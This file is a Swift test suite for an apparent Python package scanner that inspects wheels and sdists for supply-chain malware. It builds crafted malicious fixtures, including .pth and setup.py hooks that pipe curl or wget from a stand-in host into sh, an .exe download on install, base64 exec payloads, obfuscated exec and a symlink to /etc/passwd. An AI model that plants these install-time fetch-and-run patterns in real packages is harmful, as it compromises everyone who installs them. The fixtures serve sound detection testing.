import AlterTestSupport
import Foundation
import Testing

@testable import AlterKit
@testable import PythonCodeAnalysis

/// Crafted wheels and sdists, malicious and benign twins, inspected from their members.
@Suite struct ArtifactInspectorTests {
    let inspector = ArtifactInspector()

    func inspectWheel(_ b: ArtifactBuilder) -> ArtifactInspection {
        inspector.inspect(artifact: b.wheelFileName, format: .wheel, members: b.wheelMembers())
    }

    func inspectSdist(_ b: ArtifactBuilder) -> ArtifactInspection {
        inspector.inspect(artifact: b.sdistFileName, format: .sdist, members: b.sdistMembers())
    }

    func first(_ r: ArtifactInspection, _ kind: InspectionFinding.Kind) -> InspectionFinding? {
        r.findings.first { $0.kind == kind }
    }

    // MARK: .pth

    @Test func pthWithCodeThatSpawnsIsCritical() {
        var b = ArtifactBuilder(name: "requestz")
        b.add("requestz/__init__.py", "")
        b.add("requestz_init.pth", "/some/path\nimport os; os.system('curl -s https://x.invalid/p | sh')\n")
        let r = inspectWheel(b)
        let pth = first(r, .pthCode)
        #expect(pth?.severity == .critical)
        #expect(pth?.file == "requestz_init.pth")
        #expect(pth?.line == 2)
        #expect(r.findings.contains { $0.kind == .process && $0.severity == .critical && $0.phase == .startup })
        #expect(r.hasCritical)
        #expect(r.hooks == ["pth requestz_init.pth (code)"])
    }

    @Test func pthImportingAModuleThatRunsADecodedPayloadIsCritical() {
        // The shape of the 2026 litellm compromise: a .pth imports a module that starts a hidden child.
        var b = ArtifactBuilder(name: "litellm", version: "1.82.8")
        b.add("litellm/__init__.py", "from .main import completion\n")
        b.add("litellm/main.py", "def completion(**kw):\n    return kw\n")
        b.add("litellm_init.pth", "import litellm_init\n")
        b.add(
            "litellm_init.py",
            """
            import subprocess, sys
            subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('aW1wb3J0IG9z'))"])
            """)
        let r = inspectWheel(b)
        #expect(first(r, .pthCode)?.severity == .critical)
        #expect(
            r.findings.contains { $0.kind == .execDecoded && $0.file == "litellm_init.py" && $0.severity == .critical })
    }

    @Test func pthPayloadObfuscatedWithConcatenationIsCaught() {
        var b = ArtifactBuilder(name: "x")
        b.add("x.pth", "import builtins; getattr(builtins, 'ex' + 'ec')('import socket')\n")
        let r = inspectWheel(b)
        #expect(first(r, .pthCode)?.severity == .critical)
        #expect(first(r, .obfuscation)?.severity == .critical)
    }

    @Test func pthFilesSiteDoesNotReadAreData() {
        var b = ArtifactBuilder(name: "deep")
        b.add("deep/templates/example.pth", "import os; os.system('id')\n")
        b.add("deep-1.0.data/purelib/deep-hook.pth", "import deep\n")
        let r = inspectWheel(b)
        #expect(r.findings.filter { $0.kind == .pthCode }.map(\.file) == ["deep-1.0.data/purelib/deep-hook.pth"])
        #expect(r.hooks == ["pth deep-hook.pth (code)"])
    }

    @Test func pthWithOnlyPathsIsNotAFinding() {
        var b = ArtifactBuilder(name: "nspkg")
        b.add("nspkg.pth", "# namespace paths\nsrc/lib\n\n../shared\n")
        let r = inspectWheel(b)
        #expect(r.findings.isEmpty, "\(r.findings)")
        #expect(r.hooks == ["pth nspkg.pth (paths)"])
    }

    @Test func setuptoolsStylePthIsMediumNotCritical() {
        var b = ArtifactBuilder(name: "setuptools", version: "80.0")
        b.add(
            "distutils-precedence.pth",
            "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
                + "enabled and __import__('_distutils_hack').add_shim(); \n")
        b.add(
            "_distutils_hack/__init__.py",
            """
            import sys, os
            def enabled():
                which = os.environ.get('SETUPTOOLS_USE_DISTUTILS', 'local')
                return which == 'local'
            def add_shim():
                DISTUTILS_FINDER in sys.meta_path or insert_shim()
            """)
        let r = inspectWheel(b)
        #expect(first(r, .pthCode)?.severity == .medium)
        #expect(!r.hasCritical)
    }

    // MARK: Install-time code

    @Test func setupPyThatDownloadsIsCritical() {
        var b = ArtifactBuilder(name: "colorsama")
        b.add(
            "setup.py",
            """
            from setuptools import setup
            from setuptools.command.install import install
            import urllib.request as u
            class Post(install):
                def run(self):
                    u.urlretrieve('https://x.invalid/a.exe', 'a.exe')
                    install.run(self)
            setup(name='colorsama', cmdclass={'install': Post})
            """)
        let r = inspectSdist(b)
        let net = first(r, .network)
        #expect(net?.severity == .critical)
        #expect(net?.file == "colorsama-1.0/setup.py")
        #expect(net?.line == 6)
        #expect(first(r, .installHook)?.severity == .low)
        #expect(r.hooks == ["setup.py", "setup.py cmdclass"])
    }

    @Test func setupPyHelperModuleIsFollowed() {
        var b = ArtifactBuilder(name: "helped")
        b.add("setup.py", "import _build\nfrom setuptools import setup\nsetup(name='helped', version=_build.v())\n")
        b.add(
            "_build.py", "import os\ndef v():\n    os.system('wget -q http://x.invalid/s -O- | sh')\n    return '1.0'\n"
        )
        let r = inspectSdist(b)
        let p = r.findings.first { $0.kind == .process && $0.file == "helped-1.0/_build.py" }
        #expect(p?.severity == .critical)
        #expect(p?.phase == .install)
    }

    @Test func setupPyRunningADataFileIsCritical() {
        var b = ArtifactBuilder(name: "dataexec")
        b.add(
            "setup.py",
            "import os\nhere = os.path.dirname(__file__)\nexec(open(os.path.join(here, 'assets', 'logo.dat')).read())\n"
        )
        b.add("assets/logo.dat", String(repeating: "exec(__import__('zlib').decompress(b'...'))\n", count: 200))
        let r = inspectSdist(b)
        let e = first(r, .execDataFile)
        #expect(e?.severity == .critical)
        #expect(e?.evidence.contains("assets/logo.dat") == true)
        #expect(e?.line == 3)
    }

    @Test func ordinarySetupPyIsAtMostMedium() {
        var b = ArtifactBuilder(name: "plain")
        b.add(
            "setup.py",
            """
            import os, re, subprocess
            from setuptools import setup, find_packages
            here = os.path.abspath(os.path.dirname(__file__))
            about = {}
            with open(os.path.join(here, 'plain', '__version__.py')) as f:
                exec(f.read(), about)
            try:
                rev = subprocess.check_output(['git', 'rev-parse', 'HEAD']).decode()
            except Exception:
                rev = ''
            setup(name='plain', version=about['__version__'], packages=find_packages())
            """)
        b.add("plain/__version__.py", "__version__ = '1.0'\n")
        b.add("plain/__init__.py", "import subprocess\ndef run(cmd):\n    return subprocess.run(cmd, check=True)\n")
        b.add("tests/fixtures.py", "PNG = '" + String(repeating: "iVBORw0KGgoAAAANSUhEUgAA", count: 30) + "'\n")
        let r = inspectSdist(b)
        #expect(r.findings.allSatisfy { $0.severity <= .medium }, "\(r.findings)")
        #expect(r.findings.first { $0.kind == .encodedBlob }?.severity == .low)
        #expect(!r.findings.contains { $0.kind == .execDataFile })
    }

    @Test func inTreeBuildBackendIsInstallTimeCode() {
        var b = ArtifactBuilder(name: "backendy")
        b.add(
            "pyproject.toml",
            "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_custom\"]\n")
        b.add(
            "_custom/backend.py",
            "import socket\ndef build_wheel(d, c=None, m=None):\n    socket.create_connection(('x.invalid', 443))\n")
        let r = inspectSdist(b)
        #expect(
            r.findings.contains {
                $0.kind == .network && $0.severity == .critical && $0.file == "backendy-1.0/_custom/backend.py"
            })
        #expect(r.hooks.contains("build backend backend (in-tree)"))
    }

    // MARK: Library code

    @Test func libraryCodeUsingSubprocessIsNotAFinding() {
        var b = ArtifactBuilder(name: "tool")
        b.add(
            "tool/__init__.py",
            "import subprocess, requests\ndef go(u):\n    subprocess.run(['ls'])\n    return requests.get(u)\n")
        let r = inspectWheel(b)
        #expect(r.findings.isEmpty, "\(r.findings)")
    }

    @Test func sdistScriptsAndExamplesAreNotImportTimeCode() {
        var b = ArtifactBuilder(name: "netlib")
        b.add("setup.py", "from setuptools import setup\nsetup()\n")
        b.add(
            "examples/fetch.py", "import urllib.request\nprint(urllib.request.urlopen('https://example.org').read())\n")
        b.add("tools/release.py", "import subprocess\nsubprocess.run(['git', 'tag', 'v1'])\n")
        b.add("netlib/__init__.py", "")
        b.add("netlib/client.py", "import requests\ndef get(u):\n    return requests.get(u)\n")
        #expect(inspectSdist(b).findings.isEmpty, "\(inspectSdist(b).findings)")
        var beacon = b
        beacon.add("netlib/telemetry.py", "import urllib.request\nurllib.request.urlopen('https://t.invalid/ping')\n")
        let f = inspectSdist(beacon).findings
        #expect(f.map(\.file) == ["netlib-1.0/netlib/telemetry.py"])
        #expect(f.first?.severity == .high)
    }

    @Test func payloadParkedUnderTestsButImportedByThePackageIsImportTime() {
        var b = ArtifactBuilder(name: "parked")
        b.add("parked/__init__.py", "from .tests import conftest_helpers\n")
        b.add("parked/tests/__init__.py", "")
        b.add("parked/tests/conftest_helpers.py", "import socket\nsocket.create_connection(('203.0.113.9', 80))\n")
        let f = inspectWheel(b).findings
        #expect(f.first { $0.kind == .network }?.file == "parked/tests/conftest_helpers.py")
        #expect(f.first { $0.kind == .network }?.severity == .high)
        // Not imported by the package: a test's own business.
        var alone = b
        alone.files[0] = ("parked/__init__.py", Data())
        #expect(inspectWheel(alone).findings.isEmpty)
    }

    @Test func testFixturesAndConftestStayQuiet() {
        var b = ArtifactBuilder(name: "fixtures")
        b.add("fixtures/__init__.py", "")
        b.add("fixtures/conftest.py", "import subprocess\nHAS_DOT = subprocess.run(['dot', '-V']).returncode == 0\n")
        let gz = Data([0x1F, 0x8B, 0x08, 0x00] + [UInt8](repeating: 0x41, count: 600)).base64EncodedString()
        b.add("fixtures/tests/test_io.py", "PAYLOAD = '\(gz)'\n")
        let f = inspectWheel(b).findings
        #expect(f.map(\.kind) == [.encodedBlob])
        #expect(f.first?.severity == .low)
        #expect(f.first?.evidence.contains("gzip") == true)
    }

    @Test func importTimeDataFileExecIsHigh() {
        var b = ArtifactBuilder(name: "hidden")
        b.add(
            "hidden/__init__.py", "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'cache.bin')).read())\n"
        )
        b.add("hidden/cache.bin", String(repeating: "x = 1\n", count: 2000))
        let r = inspectWheel(b)
        let e = first(r, .execDataFile)
        #expect(e?.severity == .high)
        #expect(e?.file == "hidden/__init__.py")
    }

    // MARK: Wheel structure

    @Test func nativeBinaryInPureWheel() {
        var b = ArtifactBuilder(name: "pure")
        b.add("pure/__init__.py", "")
        b.add("pure/helper", bytes: [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0] + [UInt8](repeating: 0, count: 56))
        b.add("pure/run.sh", "#!/bin/sh\necho hi\n")
        b.add("pure/cli.py", "#!/usr/bin/env python3\nprint(1)\n")
        let r = inspectWheel(b)
        #expect(r.findings.first { $0.file == "pure/helper" }?.kind == .nativeBinary)
        #expect(r.findings.first { $0.file == "pure/helper" }?.severity == .medium)
        #expect(r.findings.first { $0.file == "pure/run.sh" }?.severity == .low)
        #expect(!r.findings.contains { $0.file == "pure/cli.py" })
        var platform = b
        platform.purelib = false
        #expect(!inspectWheel(platform).findings.contains { $0.kind == .nativeBinary })
    }

    @Test func recordProblems() {
        var b = ArtifactBuilder(name: "rec")
        b.add("rec/__init__.py", "x = 1\n")
        b.add("rec/data.txt", "hello\n")
        #expect(inspectWheel(b).findings.isEmpty)

        var unlisted = b
        unlisted.unlisted = [("rec/extra.py", Data("y = 2\n".utf8)), ("rec/notes.txt", Data("n".utf8))]
        let u = inspectWheel(unlisted).findings.filter { $0.kind == .unlistedFile }
        #expect(u.map(\.file).sorted() == ["rec/extra.py", "rec/notes.txt"])
        #expect(u.first { $0.file == "rec/extra.py" }?.severity == .high)
        #expect(u.first { $0.file == "rec/notes.txt" }?.severity == .medium)

        var tampered = b
        tampered.tampered = ["rec/__init__.py": Data("import os; x = 1\n".utf8)]
        let t = inspectWheel(tampered).findings.first { $0.kind == .recordMismatch }
        #expect(t?.file == "rec/__init__.py")
        #expect(t?.severity == .high)

        var missing = b
        missing.writeRecord = false
        #expect(inspectWheel(missing).findings.first?.kind == .recordMissing)
    }

    @Test(arguments: [
        ("helpful", "pip", true), ("pip", "pip3.12", false), ("helpful", "python3", true), ("tool", "toolctl", false),
    ])
    func entryPointShadowing(project: String, command: String, flagged: Bool) {
        var b = ArtifactBuilder(name: project)
        b.add("\(project)/__init__.py", "def main(): pass\n")
        b.entryPoints = "[console_scripts]\n\(command) = \(project):main\n"
        let f = inspectWheel(b).findings.first { $0.kind == .entryPointShadow }
        #expect((f != nil) == flagged)
        if flagged {
            #expect(f?.severity == .high)
            #expect(f?.line == 2)
        }
    }

    // MARK: Limits

    struct FakeLimit: ArtifactLimitViolation {
        var limitDescription: String { "entry \"bomb.txt\" expands 5000x: looks like a decompression bomb" }
        var limitSeverity: Severity { .critical }
    }

    @Test func limitHitIsAFindingAndMarksTheResultIncomplete() throws {
        var members = ArtifactBuilder(name: "bomb").wheelMembers().makeIterator()
        var count = 0
        let r = try inspector.inspect(artifact: "bomb-1.0-py3-none-any.whl", format: .wheel) {
            count += 1
            if count == 2 { throw FakeLimit() }
            return members.next()
        }
        #expect(!r.complete)
        #expect(r.findings.first?.kind == .archiveLimit)
        #expect(r.findings.first?.severity == .critical)
        #expect(r.findings.first?.evidence.contains("decompression bomb") == true)
    }

    @Test func linksOutsideTheArtifact() {
        let members = [
            ArtifactMember(path: "pkg-1.0/", kind: .directory),
            ArtifactMember(path: "pkg-1.0/setup.py", data: Data("from setuptools import setup\nsetup()\n".utf8)),
            ArtifactMember(path: "pkg-1.0/evil", kind: .symlink(target: "../../../etc/passwd")),
            ArtifactMember(path: "pkg-1.0/docs/LICENSE", kind: .symlink(target: "../LICENSE")),
        ]
        let r = inspector.inspect(artifact: "pkg-1.0.tar.gz", format: .sdist, members: members)
        #expect(r.findings.map(\.file) == ["pkg-1.0/evil"])
        #expect(r.findings.first?.severity == .critical)
    }

    /// toml++ (inside TOMLKit) aborts on some malformed documents; an artifact's pyproject.toml is hostile input.
    @Test(arguments: ["[#a]\n", "[[=\n", "a = [}]\n", "[build-system]\nrequires = [\n"])
    func malformedPyprojectInAnSdistDoesNotCrash(_ pyproject: String) {
        let members = [
            ArtifactMember(path: "pkg-1.0/", kind: .directory),
            ArtifactMember(path: "pkg-1.0/pyproject.toml", data: Data(pyproject.utf8)),
            ArtifactMember(path: "pkg-1.0/pkg/__init__.py", data: Data()),
        ]
        let r = inspector.inspect(artifact: "pkg-1.0.tar.gz", format: .sdist, members: members)
        #expect(r.findings.allSatisfy { $0.severity != .critical })
    }

    @Test func identityComesFromMetadata() {
        var b = ArtifactBuilder(name: "Demo_Pkg", version: "2.0")
        b.add("demo_pkg/__init__.py", "")
        let r = inspectWheel(b)
        #expect(r.project == "Demo_Pkg")
        #expect(r.version == "2.0")
        #expect(r.fileCount == 4)
        let s = inspectSdist(b)
        #expect(s.project == "Demo_Pkg")
    }
}
